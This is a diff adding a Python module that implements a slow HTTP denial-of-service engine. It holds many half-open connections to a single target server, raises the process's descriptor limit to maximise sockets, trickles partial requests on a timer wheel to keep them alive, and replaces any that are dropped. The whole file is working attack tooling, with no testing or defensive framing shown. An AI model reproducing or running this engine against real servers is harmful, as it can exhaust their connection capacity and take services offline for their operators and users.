@@ -0,0 +1,251 @@
+"""Slow HTTP attack engine: many half-open requests kept alive by a timer wheel"""
+
+import asyncio
+import logging
+import math
+import os
+from typing import Callable, Dict, List, Optional, Set
+
+try:
+    import resource
+except ImportError:  # Windows
+    resource = None
+
+logger = logging.getLogger(__name__)
+
+FD_RESERVE = 256  # descriptors left for the rest of the process
+CONNECT_TIMEOUT = 5.0
+RECONNECT_BACKOFF_MAX = 2.0
+PORT_RANGE_FILE = "/proc/sys/net/ipv4/ip_local_port_range"
+
+
+def _open_fd_count() -> int:
+    for path in ("/proc/self/fd", "/dev/fd"):
+        try:
+            return len(os.listdir(path))
+        except OSError:
+            continue
+    return 0
+
+
+def connection_budget(requested: int) -> int:
+    """
+    How many sockets this process can actually hold: raises the soft
+    RLIMIT_NOFILE to the hard limit if needed, then caps at the free
+    descriptors and the ephemeral port range (all sockets share one target).
+    """
+    budget = requested
+    if resource is not None:
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        wanted = requested + _open_fd_count() + FD_RESERVE
+        if soft != resource.RLIM_INFINITY and soft < wanted:
+            new_soft = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
+            try:
+                resource.setrlimit(resource.RLIMIT_NOFILE, (new_soft, hard))
+                soft = new_soft
+            except (ValueError, OSError) as e:
+                logger.debug(f"Cannot raise RLIMIT_NOFILE: {e}")
+        if soft != resource.RLIM_INFINITY:
+            budget = min(budget, soft - _open_fd_count() - FD_RESERVE)
+    
+    try:
+        with open(PORT_RANGE_FILE) as f:
+            low, high = (int(part) for part in f.read().split())
+        budget = min(budget, high - low + 1)
+    except (OSError, ValueError):
+        pass
+    
+    budget = max(budget, 0)
+    if budget < requested:
+        logger.warning(f"Connection budget: {budget} of {requested} requested sockets (fd/port limits)")
+    return budget
+
+
+class TimerWheel:
+    """
+    Hashed timer wheel with a fixed period: items scheduled `interval` from
+    now land in one slot, and each tick hands back the slot that came due.
+    Scheduling and expiry are O(1) per item regardless of how many are held.
+    """
+    
+    def __init__(self, interval: float, tick: float):
+        self.tick = tick
+        self.slots_ahead = max(1, math.ceil(interval / tick))
+        self.slots: List[list] = [[] for _ in range(self.slots_ahead + 1)]
+        self.position = 0
+    
+    def schedule(self, item):
+        """Due one interval from now"""
+        self.slots[(self.position + self.slots_ahead) % len(self.slots)].append(item)
+    
+    def advance(self) -> list:
+        """Move one tick forward; returns the items now due"""
+        self.position = (self.position + 1) % len(self.slots)
+        due = self.slots[self.position]
+        self.slots[self.position] = []
+        return due
+
+
+class _SlowProtocol(asyncio.Protocol):
+    """One half-open request; all writes come from the engine's wheel"""
+    
+    def __init__(self, engine: 'SlowConnectionEngine'):
+        self.engine = engine
+        self.transport: Optional[asyncio.Transport] = None
+        self.trickles = 0
+    
+    def connection_made(self, transport):
+        self.transport = transport
+        self.engine.on_connected(self)
+    
+    def data_received(self, data):
+        pass  # 400/408 from the server, followed by a close
+    
+    def connection_lost(self, exc):
+        self.transport = None
+        self.engine.on_lost(self)
+
+
+class SlowConnectionEngine:
+    """
+    Holds up to `connections` sockets, each with a partial request (`initial`)
+    and a `trickle` write every `interval` seconds, optionally closing after
+    `max_trickles` (slow POST bodies). Opens run concurrently under a
+    semaphore; dropped sockets are replaced. `on_sent(count)` is called for
+    every write.
+    """
+    
+    def __init__(
+        self,
+        target_ip: str,
+        port: int,
+        initial: Callable[[], bytes],
+        trickle: Callable[[], bytes],
+        on_sent: Callable[[int], None],
+        connections: int = 200,
+        interval: float = 15.0,
+        open_concurrency: int = 256,
+        max_trickles: Optional[int] = None
+    ):
+        self.target_ip = target_ip
+        self.port = port
+        self.initial = initial
+        self.trickle = trickle
+        self.on_sent = on_sent
+        self.requested = connections
+        self.target = connections
+        self.interval = interval
+        self.max_trickles = max_trickles
+        self.limiter = asyncio.Semaphore(max(1, open_concurrency))
+        self.wheel = TimerWheel(interval, tick=min(1.0, interval / 10))
+        
+        self.running = False
+        self.open: Set[_SlowProtocol] = set()
+        self.opening = 0
+        self._deficit = asyncio.Event()
+        self._backoff = 0.0
+        self._tasks: Set[asyncio.Task] = set()
+        
+        self.opened = 0
+        self.peak_open = 0
+        self.connect_failures = 0
+        self.dropped = 0
+        self.trickles_sent = 0
+    
+    def on_connected(self, protocol: _SlowProtocol):
+        if not self.running:
+            protocol.transport.close()
+            return
+        self.open.add(protocol)
+        self.opened += 1
+        self.peak_open = max(self.peak_open, len(self.open))
+        protocol.transport.write(self.initial())
+        self.on_sent(1)
+        self.wheel.schedule(protocol)
+    
+    def on_lost(self, protocol: _SlowProtocol):
+        if protocol in self.open:
+            self.open.discard(protocol)
+            if self.running:
+                self.dropped += 1
+                self._deficit.set()
+    
+    async def _open_one(self):
+        try:
+            await asyncio.wait_for(
+                asyncio.get_running_loop().create_connection(
+                    lambda: _SlowProtocol(self), self.target_ip, self.port
+                ),
+                CONNECT_TIMEOUT
+            )
+            self._backoff = 0.0
+        except (OSError, asyncio.TimeoutError):
+            self.connect_failures += 1
+            self._backoff = min(max(self._backoff * 2, 0.05), RECONNECT_BACKOFF_MAX)
+            self._deficit.set()
+        finally:
+            self.opening -= 1
+            self.limiter.release()
+    
+    async def _maintain(self):
+        """Keep open + opening at the target, at most open_concurrency in flight"""
+        while self.running:
+            if len(self.open) + self.opening >= self.target:
+                self._deficit.clear()
+                await self._deficit.wait()
+                continue
+            if self._backoff:
+                await asyncio.sleep(self._backoff)
+            await self.limiter.acquire()
+            self.opening += 1
+            task = asyncio.create_task(self._open_one())
+            self._tasks.add(task)
+            task.add_done_callback(self._tasks.discard)
+    
+    async def _drive_wheel(self):
+        """Send the trickles that came due each tick"""
+        while self.running:
+            await asyncio.sleep(self.wheel.tick)
+            sent = 0
+            for protocol in self.wheel.advance():
+                transport = protocol.transport
+                if transport is None or transport.is_closing():
+                    continue
+                if self.max_trickles is not None and protocol.trickles >= self.max_trickles:
+                    transport.close()  # replaced by _maintain
+                    continue
+                transport.write(self.trickle())
+                protocol.trickles += 1
+                sent += 1
+                self.wheel.schedule(protocol)
+            if sent:
+                self.trickles_sent += sent
+                self.on_sent(sent)
+    
+    async def run(self, duration: float):
+        """Hold the connections for duration seconds, then close them all"""
+        self.target = connection_budget(self.requested)
+        self.running = True
+        workers = [asyncio.create_task(self._maintain()), asyncio.create_task(self._drive_wheel())]
+        try:
+            await asyncio.sleep(duration)
+        finally:
+            self.running = False
+            for task in workers + list(self._tasks):
+                task.cancel()
+            for protocol in list(self.open):
+                if protocol.transport is not None:
+                    protocol.transport.close()
+            self.open.clear()
+    
+    def get_stats(self) -> Dict:
+        return {
+            'requested': self.requested,
+            'budget': self.target,
+            'open': len(self.open),
+            'peak_open': self.peak_open,
+            'opened': self.opened,
+            'connect_failures': self.connect_failures,
+            'dropped': self.dropped,
+            'trickles_sent': self.trickles_sent
+        }